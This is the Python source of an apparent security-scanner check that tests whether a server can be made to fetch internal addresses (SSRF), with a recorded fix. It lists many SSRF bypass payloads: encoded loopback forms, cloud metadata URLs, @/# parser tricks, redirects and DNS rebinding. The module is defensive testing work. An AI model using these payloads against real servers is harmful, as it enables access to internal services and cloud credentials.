"""D03: can a value make the server ask inside its own network? The sinkhole is all of that network and tells who was asked."""

from __future__ import annotations

import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass

from mcpweb.plugin import CheckResult, Severity, SinkEvent

from . import marks
from .attack import Attack, Family
from .lab import Spent, is_internal

CHECK = "D03"
FIX = (
    "Resolve the name once, refuse loopback, private, link-local and metadata addresses in every spelling, connect to the "
    "address that was checked, and check again after each redirect."
)


@dataclass(frozen=True)
class Form:
    """One way to say a place. ``{t}`` is a name nobody used, ``{r}`` ends a random private address, ``{h}`` is public."""

    way: str
    text: str
    severity: Severity | None = None


PUBLIC = (Form("public", "http://{h}/{t}"), Form("public, TLS", "https://{h}/{t}"))
PLAIN = (
    Form("loopback", "http://127.0.0.1/{t}"),
    Form("metadata of a cloud", "http://169.254.169.254/latest/meta-data/{t}"),
    Form("a bare private address", "10.{r}"),
)
FURTHER = (
    Form("the name localhost", "http://localhost/{t}"),
    Form("loopback on another port", "http://127.0.0.1:8080/{t}"),
    Form("another loopback address", "http://127.{r}/{t}"),
    Form("a private address", "http://10.{r}/{t}"),
    Form("a private address", "http://192.168.{r2}/{t}"),
    Form("a private address", "http://172.20.{r2}/{t}"),
    Form("a private address, TLS", "https://10.{r}/{t}"),
    Form("loopback as a decimal number", "http://2130706433/{t}"),
    Form("loopback in hexadecimal", "http://0x7f000001/{t}"),
    Form("loopback in octal", "http://0177.0.0.1/{t}"),
    Form("loopback, short", "http://127.1/{t}"),
    Form("the unspecified address", "http://0.0.0.0/{t}"),
    Form("loopback, IPv6", "http://[::1]/{t}"),
    Form("loopback, mapped into IPv6", "http://[::ffff:127.0.0.1]/{t}"),
    Form("loopback, mapped into IPv6 in hexadecimal", "http://[::ffff:7f00:1]/{t}"),
    Form("metadata as a decimal number", "http://2852039166/latest/meta-data/{t}"),
    Form("metadata, mapped into IPv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/{t}"),
    Form("a name of the metadata server", "http://metadata.google.internal/computeMetadata/v1/{t}"),
    Form("a public name with a loopback address", "http://{loop}/{t}"),
    Form("a public name with the metadata address", "http://{meta}/latest/{t}"),
    Form("a public name with a private address", "http://{priv}/{t}"),
    Form("a user name before @", "http://{h}@127.0.0.1/{t}"),
    Form("a host before #@", "http://127.0.0.1#@{h}/{t}"),
    Form("a backslash before @", "http://127.0.0.1\\@{h}/{t}"),
    Form("upper case and spaces", " HTTP://127.0.0.1/{t}"),
    Form("no scheme", "127.0.0.1/{t}"),
    Form("no scheme, two slashes", "//127.0.0.1/{t}"),
    Form("a redirect to loopback", "http://{h}/redirect/302?to=http://127.0.0.1/{t}"),
    Form("a redirect to metadata", "http://{h}/redirect/307?to=http://169.254.169.254/latest/{t}"),
    Form("a redirect to a decimal number", "http://{h}/redirect/301?to=http://2130706433/{t}"),
    Form("a name that changes its address", "http://{rebind}/{t}", "medium"),
    Form("a name that changes its address, TLS", "https://{rebind}/{t}", "medium"),
)
KNOWN = (  # {k}: a host the server names itself
    Form("a host it knows, as user name", "http://{k}@127.{r}/{t}"),
    Form("a host it knows, as user name, TLS", "https://{k}@127.{r}/{t}"),
    Form("a host it knows, in the path", "http://127.0.0.1/{t}?{k}"),
    Form("a host it knows, after #", "http://127.0.0.1/{t}#{k}"),
    Form("a name that begins with a host it knows", "http://{k}.{loop}/{t}"),
)
BARE = (
    Form("a bare loopback name", "localhost:{port}"),
    Form("a bare loopback address", "127.{r}"),
    Form("a bare private address", "192.168.{r2}"),
    Form("a private address and a path", "10.{r}/{t}?"),
    Form("a private address before #", "10.{r}/{t}#"),
    Form("a private address as user name", "x@10.{r}/{t}#"),
    Form("a private address and a port", "10.{r}:80"),
)


def first(attack: Attack) -> Iterator[CheckResult | None]:
    """Ask for a public name, loopback, metadata and a private address; who was asked is looked up afterwards."""
    yield None
    if attack.after and _key(attack, after=False) in attack.board.reached:
        return  # it asks at the first step, and was judged by that
    hosts = known_hosts(attack) if attack.point.kind == "text" else []
    for form in (*PUBLIC, *PLAIN, *(KNOWN if hosts else ())):
        sent = _fill(attack, form, hosts[0] if hosts else "")
        attack.hope(CHECK, sent.mark, "network", form.way, _reached)
        attack.send(sent.text)


def more(attack: Attack) -> Iterator[CheckResult | None]:
    """Ask by further hosts the server knows, where nothing else was let through."""
    for host in known_hosts(attack)[1:] if attack.point.kind == "text" else ():
        yield _judge(attack, KNOWN, host)


def known_hosts(attack: Attack) -> list[str]:
    """Return host names that the definition, the configuration or the environment of the server hold."""
    config = attack.lab.context.config
    said = " ".join(
        [*(config.command or ()), *config.environment.values(), str(attack.point.surface.definition), str(attack.point.schema)]
    )
    found = re.findall(
        r"(?<![\w.@-])((?:[a-z0-9-]{1,40}\.){1,4}(?:com|org|net|io|dev|app|internal|local|test|example|co))(?![\w-])",
        said.lower(),
    )
    return [host for host in dict.fromkeys(found) if host not in ("example.com", "example.org")][:3]


@dataclass(frozen=True)
class Sent:
    """What was sent, and how a request of it is known: a name nobody used, a random address, or a random port."""

    form: Form
    text: str
    mark: str
    port: int = 0

    def fits(self, event: SinkEvent) -> bool:
        """Tell whether this made the server ask for something inside its network."""
        if event.kind in ("dns", "udp") or not is_internal(event.address):
            return False
        return event.port == self.port if self.port else event.mentions(self.mark) or event.address == self.mark


def _fill(attack: Attack, form: Form, known: str = "") -> Sent:
    sink, mark = attack.lab.sink, marks.token()
    r = [1 + secrets.randbelow(250) for _ in range(3)]
    port = 20_000 + secrets.randbelow(20_000)
    text = form.text.replace("{r}", f"{r[0]}.{r[1]}.{r[2]}").replace("{r2}", f"{r[1]}.{r[2]}").replace("{t}", mark)
    text = text.replace("{k}", known).replace("{port}", str(port))
    for label in ("loop", "meta", "priv", "rebind"):
        if f"{{{label}}}" in text:
            text = text.replace(f"{{{label}}}", sink.host(label))
    if "{h}" in text:
        text = text.replace("{h}", sink.host(mark))
    if mark not in text or "https:" in text:
        addresses = re.findall(r"\b(?:\d{1,3}\.){3}\d{1,3}\b", text)
        names = re.findall(r"https://([\w.-]+)", text)
        mark = addresses[0] if addresses else names[0] if names else mark
    return Sent(form, text, mark, port if "{port}" in form.text else 0)


def _reached(attack: Attack) -> CheckResult | None:
    """Judge a field that was seen to ask for something: by every form, each with fresh randomness."""
    key = _key(attack, after=bool(attack.after))
    if key in attack.board.reached:
        return None
    attack.board.reached[key] = {"asks"}
    hosts = known_hosts(attack)
    return _judge(attack, (*PLAIN, *FURTHER, *BARE, *(KNOWN if hosts else ())), hosts[0] if hosts else "")


def _key(attack: Attack, *, after: bool) -> tuple[str, str]:
    return CHECK, f"{attack.point.surface.title}{attack.point.pointer} {after}"


def _judge(attack: Attack, forms: tuple[Form, ...], known: str) -> CheckResult | None:
    hits = _ask(attack, forms, known)
    if not hits:
        attack.board.note(CHECK, attack.point, f"{attack.point.pointer} asks for public names only")
        return None
    hits.sort(key=lambda one: one[0].form.severity is not None)
    again = _ask(attack, tuple(sent.form for sent, _ in hits[:3]), known)
    if not again:
        return None
    sent, event = next(one for one in hits if one[0].form == again[0][0].form)
    ways = list(dict.fromkeys([sent.form.way, *(one.form.way for one, _ in hits)]))
    also = f"; also: {', '.join(ways[1:4])}" if len(ways) > 1 else ""
    return attack.fail(
        CHECK,
        f"A value in {attack.point.pointer} makes the server ask {event.address}:{event.port} ({sent.form.way}{also}).",
        sent=sent.text,
        severity="medium" if not event.method and sent.form.severity is None else sent.form.severity,
        next_step=FIX,
        way=sent.form.way,
        ways=ways,
        seen=_told(event),
        again={"sent": again[0][0].text, "seen": _told(again[0][1])},
    )


def _ask(attack: Attack, forms: tuple[Form, ...], known: str) -> list[tuple[Sent, SinkEvent]]:
    """Ask in all forms, then look who was asked; return those that went to an inner address."""
    sent = []
    try:
        for form in forms:
            one = _fill(attack, form, known)
            attack.send(one.text)
            if "{rebind}" in form.text:
                attack.send(one.text)  # who asks once for a check and once to connect has been answered twice by now
            sent.append(one)
    except Spent:
        if not sent:
            raise
    events = attack.lab.events()
    found = [(one, next((event for event in events if one.fits(event)), None)) for one in sent]
    return [(one, event) for one, event in found if event is not None]


def _told(event: SinkEvent) -> dict[str, str | int]:
    return {"kind": event.kind, "address": event.address, "port": event.port, "name": event.name, "path": event.path}


FAMILY = Family(
    CHECK,
    first,
    more,
    likely=r"ur[il]|link|href|host|server|endpoint|webhook|callback|fetch|download|proxy|image|feed|domain|site|web|http|api|address|ping|port",
)
